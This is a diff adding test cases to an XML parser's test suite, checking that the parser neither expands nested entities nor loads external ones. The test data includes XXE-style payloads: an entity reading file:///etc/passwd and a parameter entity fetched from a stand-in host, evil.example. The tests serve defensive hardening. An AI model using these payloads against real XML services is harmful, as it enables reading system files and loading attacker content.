@@ -63,6 +63,15 @@ describe('parseXml: places and values', () => {
     const root = firstElement('<!DOCTYPE a [<!ENTITY e "v&#228;">]><a b="&e;">&e;</a>');
     expect([root.attributes[0]!.value, outline(root.children)]).toEqual(['vä', '"vä"']);
   });
+
+  it.each([
+    ['an entity in another', '<!ENTITY x "long"><!ENTITY e "&x;&x;">', '&x;&x;'],
+    ['one that is a file', '<!ENTITY e SYSTEM "file:///etc/passwd">', '&e;'],
+    ['one that a file declares', '<!ENTITY % p SYSTEM "http://evil.example/"> %p;', '&e;'],
+  ])('neither expands nor loads %s', (_, declarations, value) => {
+    const { attributes, children } = firstElement(`<!DOCTYPE a [${declarations}]><a b="&e;">&e;</a>`);
+    expect([attributes[0]!.value, outline(children)]).toEqual([value, `"${value}"`]);
+  });
 });
 
 describe('parseXml: verdict', () => {
